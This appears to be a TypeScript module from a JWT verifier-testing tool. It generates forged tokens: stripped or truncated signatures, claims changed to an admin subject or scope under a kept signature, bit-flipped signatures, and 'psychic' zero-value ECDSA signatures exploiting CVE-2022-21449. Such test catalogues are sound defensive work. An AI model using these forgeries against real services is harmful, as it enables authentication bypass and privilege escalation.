import type { ForgedAttack } from '../attack-types.js';
import type { JsonObject } from '../jws-parts.js';
import {
  forgeToken,
  originalSignature,
  withHeader,
  type CatalogueContext,
} from './catalogue-context.js';

/** The identity a tampered token claims. */
export const ATTACKER_SUBJECT = 'tessera-attack-admin';

/** Psychic signatures: ES* with r = s = 0, each of the curve's length (RFC 7518 §3.4). */
const PSYCHIC = [
  ['ES256', 64],
  ['ES384', 96],
  ['ES512', 132],
] as const;

/**
 * Tokens whose signature does not match their content: stripped (empty, or no third
 * segment), the valid signature over changed claims (sub, scope, exp) or over another
 * token's claims, a flipped bit, half a signature, and the ECDSA signature r = s = 0 that
 * Java 15 to 18 accepted for any message (CVE-2022-21449). RFC 8725 §3.3: verify the
 * signature before trusting any claim.
 *
 * @example
 * const attacks = buildSignatureAttacks(context);
 */
export function buildSignatureAttacks(context: CatalogueContext): ForgedAttack[] {
  const { parts, nowSeconds } = context;
  const { headerSegment, payloadSegment, signatureSegment } = parts;
  const kept = originalSignature(parts);
  const scope = typeof parts.payload['scope'] === 'string' ? `${parts.payload['scope']} ` : '';
  const tampered = (changes: JsonObject): string =>
    forgeToken(parts.header, { ...parts.payload, ...changes }, kept);
  const signature = Buffer.from(signatureSegment, 'base64url');
  const flipped = Buffer.from(signature);
  flipped[flipped.length - 1] = (flipped[flipped.length - 1] ?? 0) ^ 0x01;

  const anotherToken: JsonObject = {
    ...parts.payload,
    sub: ATTACKER_SUBJECT,
    jti: `tessera-attack-${nowSeconds}`,
    iat: nowSeconds,
    exp: nowSeconds + 3600,
  };
  const attacks: ForgedAttack[] = [
    {
      id: 'signature/stripped-empty',
      category: 'signature',
      sent: 'original header and claims, empty signature',
      token: `${headerSegment}.${payloadSegment}.`,
    },
    {
      id: 'signature/stripped-two-segments',
      category: 'signature',
      sent: 'original header and claims, no signature segment at all',
      token: `${headerSegment}.${payloadSegment}`,
    },
    {
      id: 'signature/tampered-sub',
      category: 'signature',
      sent: `sub changed to "${ATTACKER_SUBJECT}", original signature kept`,
      token: tampered({ sub: ATTACKER_SUBJECT }),
    },
    {
      id: 'signature/tampered-scope',
      category: 'signature',
      sent: 'scope widened with "admin", original signature kept',
      token: tampered({ scope: `${scope}admin` }),
    },
    {
      id: 'signature/tampered-exp',
      category: 'signature',
      sent: 'exp moved a year later, original signature kept',
      token: tampered({ exp: nowSeconds + 365 * 86_400 }),
    },
    {
      id: 'signature/of-another-token',
      category: 'signature',
      sent: "another token's header and claims (new sub, jti, times) under the valid signature",
      token: forgeToken(parts.header, anotherToken, kept),
    },
    {
      id: 'signature/bit-flipped',
      category: 'signature',
      sent: 'original header and claims, last bit of the signature flipped',
      token: `${headerSegment}.${payloadSegment}.${flipped.toString('base64url')}`,
    },
    {
      id: 'signature/truncated',
      category: 'signature',
      sent: 'original header and claims, first half of the signature only',
      token: `${headerSegment}.${payloadSegment}.${signature.subarray(0, signature.length >> 1).toString('base64url')}`,
    },
  ];
  for (const [alg, bytes] of PSYCHIC) {
    attacks.push({
      id: `psychic/${alg}-zero-signature`,
      category: 'psychic',
      sent: `alg ${alg}, original claims, signature r = s = 0 (CVE-2022-21449)`,
      token: forgeToken(withHeader(parts, { alg }), parts.payload, {
        segment: Buffer.alloc(bytes).toString('base64url'),
      }),
    });
  }
  return attacks;
}
